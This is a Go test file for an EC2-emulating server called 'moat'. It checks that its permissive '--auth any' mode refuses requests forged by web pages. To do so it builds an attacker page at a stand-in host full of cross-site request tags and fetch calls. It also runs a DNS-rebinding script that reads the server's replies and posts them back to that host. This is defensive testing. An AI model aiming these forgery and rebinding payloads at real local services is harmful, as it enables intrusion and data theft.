package server_test

import (
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os/exec"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"moat/server"
	"moat/sigv4"
	"moat/state"
)

// TestBrowsersAreTold holds which requests --auth any takes for those of a web
// page, by what they say of themselves.
func TestBrowsersAreTold(t *testing.T) {
	ts, _ := newAPI(t, func(c *server.Config) { c.AnyAuth, c.AllowedHosts = true, []string{"moat.example.test"} })
	verifying, _ := newAPI(t, nil)
	const firefox = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
	for _, row := range []struct {
		name, host string
		headers    []string // name, value, …
		reads      int
		writes     int
	}{
		{"an SDK", "", nil, 200, 200},
		{"an address", "192.0.2.7:4599", nil, 200, 200},
		{"an IPv6 address", "[::1]:4599", nil, 200, 200},
		{"localhost", "LOCALHOST:4599", nil, 200, 200},
		{"a name below localhost", "ec2.localhost:4599", nil, 200, 200},
		{"a container's name", "moat:4599", nil, 200, 200},
		{"the host, from a container", "host.docker.internal:4599", nil, 200, 200},
		{"an allowed name", "moat.Example.test.:4599", nil, 200, 200},
		{"a name of somebody's", "moat.example.com:4599", nil, 401, 401},
		{"a name that begins as an address", "127.0.0.1.example.com", nil, 401, 401},
		{"a name that begins as localhost", "localhost.example.com", nil, 401, 401},
		{"a name that ends as an allowed one", "evil-moat.example.test", nil, 401, 401},
		{"another site's page", "", []string{"Sec-Fetch-Site", "cross-site"}, 401, 401},
		{"a page of another port", "", []string{"Sec-Fetch-Site", "same-site"}, 401, 401},
		{"its own page", "", []string{"Sec-Fetch-Site", "same-origin"}, 200, 200},
		{"its own page says its origin", "localhost:4599", []string{"Sec-Fetch-Site", "same-origin", "Origin", "http://localhost:4599"}, 200, 200},
		{"a link that was opened", "", []string{"Sec-Fetch-Site", "none"}, 200, 401},
		{"two answers of which one is a page's", "", []string{"Sec-Fetch-Site", "same-origin", "Sec-Fetch-Site", "cross-site"}, 401, 401},
		{"another origin", "", []string{"Origin", "https://example.org"}, 401, 401},
		{"a sandboxed page", "", []string{"Origin", "null"}, 401, 401},
		{"a browser that says nothing", "moat:4599", []string{"User-Agent", firefox}, 401, 401},
	} {
		t.Run(row.name, func(t *testing.T) {
			s := signed()
			s.change = func(r *http.Request) {
				if row.host != "" {
					r.Host = row.host
				}
				for i := 0; i < len(row.headers); i += 2 {
					r.Header.Add(row.headers[i], row.headers[i+1])
				}
			}
			resp := s.post(t, ts.URL, "Action=DescribeVpcs&Version=2016-11-15")
			if body := read(t, resp); resp.StatusCode != row.reads || row.reads == 401 && !strings.Contains(body, "<Code>AuthFailure</Code><Message>With --auth any") {
				t.Errorf("a read: %d, want %d: %s", resp.StatusCode, row.reads, body)
			}
			resp = s.post(t, ts.URL, "Action=CreateVpc&CidrBlock=10.0.0.0/16&DryRun=true&Version=2016-11-15")
			want := row.writes
			if want == 200 {
				want = 412 // DryRunOperation
			}
			if body := read(t, resp); resp.StatusCode != want {
				t.Errorf("a write: %d, want %d: %s", resp.StatusCode, want, body)
			}
			// Where signatures are verified none of this matters: it is signed.
			before := signed()
			at := before.at
			r, _ := http.NewRequest("POST", verifying.URL+"/", strings.NewReader("Action=DescribeVpcs&Version=2016-11-15"))
			r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
			s.change(r)
			sigv4.Sign(r, []byte("Action=DescribeVpcs&Version=2016-11-15"), sigv4.Credential{AccessKeyID: testKey, Date: at.UTC().Format("20060102"), Region: "us-east-1", Service: "ec2"}, testSecret, "", at)
			if resp := do(t, r); resp.StatusCode != 200 {
				t.Errorf("signed: %d, want 200: %s", resp.StatusCode, read(t, resp))
			}
		})
	}
}

// chromium gives the command of a Chromium, or skips.
func chromium(t *testing.T) string {
	for _, name := range []string{"chromium", "chromium-browser", "google-chrome"} {
		if path, err := exec.LookPath(name); err == nil {
			return path
		}
	}
	t.Skip("no Chromium is installed: apt-get install chromium")
	return ""
}

// TestWebPages opens pages in a real Chromium that try to use a server which
// takes every credential.
func TestWebPages(t *testing.T) {
	bin := chromium(t)
	ts, st := newAPI(t, func(c *server.Config) { c.AnyAuth = true })
	signed().post(t, ts.URL, "Action=CreateSecurityGroup&GroupName=first&GroupDescription=d&Version=2016-11-15")
	var arrived atomic.Int64
	moat := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		arrived.Add(1)
		ts.Config.Handler.ServeHTTP(w, r)
	}))
	t.Cleanup(moat.Close)
	port := moat.Listener.Addr().(*net.TCPAddr).Port
	// call is a URL that makes a call, as anybody can write one.
	call := func(host, action string) string {
		r, _ := http.NewRequest("GET", fmt.Sprintf("http://%s:%d/?Version=2016-11-15&%s", host, port, action), nil)
		at := time.Now()
		sigv4.Presign(r, nil, sigv4.Credential{AccessKeyID: "any", Date: at.UTC().Format("20060102"), Region: "us-east-1", Service: "ec2"}, "any", "", at, time.Hour)
		return r.URL.String()
	}
	create := func(host, name string) string {
		return call(host, "Action=CreateSecurityGroup&GroupDescription=d&GroupName="+name)
	}

	done := make(chan string, 100)
	pages := http.NewServeMux()
	pages.HandleFunc("/done", func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		done <- string(b)
	})
	attacker := httptest.NewServer(pages)
	t.Cleanup(attacker.Close)
	site := fmt.Sprintf("http://attacker.example:%d", attacker.Listener.Addr().(*net.TCPAddr).Port)
	var page strings.Builder
	page.WriteString("<!doctype html><body>")
	for i, host := range []string{"127.0.0.1", "localhost", "devbox", "attacker.example"} {
		for _, tag := range []string{`<img src="%s">`, `<script src="%s"></script>`, `<iframe src="%s"></iframe>`, `<link rel=stylesheet href="%s">`, `<img referrerpolicy=no-referrer src="%s">`} {
			fmt.Fprintf(&page, tag+"\n", create(host, fmt.Sprintf("g%d-%d", i, page.Len())))
		}
		fmt.Fprintf(&page, "<iframe name=f%d></iframe><form method=post target=f%d action=\"%s\"><input name=x value=1></form>\n", i, i, create(host, fmt.Sprint("form", i)))
		fmt.Fprintf(&page, "<iframe sandbox=\"allow-scripts\" srcdoc=\"<script>fetch('%s', {mode: 'no-cors', method: 'POST'})</script>\"></iframe>\n", create(host, fmt.Sprint("sandbox", i)))
		fmt.Fprintf(&page, "<script>fetch('%s', {mode: 'no-cors'}).catch(() => 0); fetch('%s', {mode: 'no-cors', method: 'POST', body: 'a=b'}).catch(() => 0); navigator.sendBeacon('%s', 'a=b')</script>\n",
			create(host, fmt.Sprint("fetch", i)), create(host, fmt.Sprint("post", i)), create(host, fmt.Sprint("beacon", i)))
	}
	page.WriteString(`<script>onload = () => { for (const f of document.forms) f.submit(); setTimeout(() => fetch("/done", {method: "POST", body: "tried"}), 1500) }</script>`)
	pages.HandleFunc("/page", func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, page.String()) })
	pages.HandleFunc("/redirect", func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, create("127.0.0.1", "redirected"), http.StatusFound)
	})

	// The name of the page's own server comes to mean the machine's loopback:
	// the first connection gets the page, every later one is the server's.
	rebound, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { rebound.Close() })
	var loaded atomic.Bool
	go http.Serve(rebound, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch {
		case r.URL.Path == "/rebind":
			w.Header().Set("Connection", "close")
			fmt.Fprintf(w, `<!doctype html><script>
const read = %q.replace(/^http:..[^/]*/, ""), write = %q.replace(/^http:..[^/]*/, "");
Promise.all([fetch(read), fetch(write), fetch(write, {method: "POST"})]).then(rs => Promise.all(rs.map(r => r.text()))).
	then(ts => fetch(%q, {method: "POST", mode: "no-cors", body: "rebound:" + ts.join("\n")}))</script>`,
				call("x", "Action=DescribeSecurityGroups"), create("x", "rebound"), site+"/done")
			loaded.Store(true)
		case loaded.Load():
			arrived.Add(1)
			ts.Config.Handler.ServeHTTP(w, r)
		}
	}))

	open := func(url string, also ...string) *exec.Cmd {
		args := append([]string{"--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run", "--disable-background-networking",
			"--disable-component-update", "--disable-sync", "--user-data-dir=" + t.TempDir(),
			"--host-resolver-rules=MAP *.example 127.0.0.1, MAP devbox 127.0.0.1, MAP * ~NOTFOUND, EXCLUDE localhost, EXCLUDE 127.0.0.1"}, also...)
		return exec.Command(bin, append(args, url)...)
	}
	visit := func(url, want string) string {
		c := open(url, "--remote-debugging-port=0") // stays until it is killed
		c.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
		if err := c.Start(); err != nil {
			t.Fatal(err)
		}
		defer func() { syscall.Kill(-c.Process.Pid, syscall.SIGKILL); c.Wait() }()
		select {
		case got := <-done:
			if !strings.HasPrefix(got, want) {
				t.Fatalf("%s reported %q, want %s", url, got, want)
			}
			return got
		case <-time.After(2 * time.Minute):
			t.Fatalf("%s did not report within two minutes", url)
			return ""
		}
	}
	rev := st.Latest().Rev
	unchanged := func(what string) {
		t.Helper()
		if now := st.Latest().Rev; now != rev {
			var names []string
			for g := range state.Groups.All(st.Latest().In(state.Scope{Region: "us-east-1", Account: account})) {
				names = append(names, g.Name)
			}
			t.Errorf("%s changed something: the groups are %v", what, names)
			rev = now
		}
	}

	visit(site+"/page", "tried")
	if n := arrived.Load(); n < 20 {
		t.Errorf("%d requests of the page arrived, want more: the test shows nothing", n)
	}
	unchanged("a page of another site")

	if got := visit(fmt.Sprintf("http://rebind.example:%d/rebind", rebound.Addr().(*net.TCPAddr).Port), "rebound:"); strings.Contains(got, "sg-") || !strings.Contains(got, "--allowed-host rebind.example") {
		t.Errorf("a page whose name was pointed at the server got: %s", got)
	}
	unchanged("a page whose name was pointed at the server")

	dom := func(url string) string {
		out, err := open(url, "--dump-dom").Output()
		if err != nil {
			t.Fatal(err)
		}
		return string(out)
	}
	if got := dom(site + "/redirect"); !strings.Contains(got, "opening a link changes nothing") {
		t.Errorf("a link that leads to the server: %s", got)
	}
	unchanged("a link")
	if got := dom(call("127.0.0.1", "Action=DescribeSecurityGroups")); !strings.Contains(got, "sg-") {
		t.Errorf("a read that somebody types gets %s, want the groups", got)
	}
}
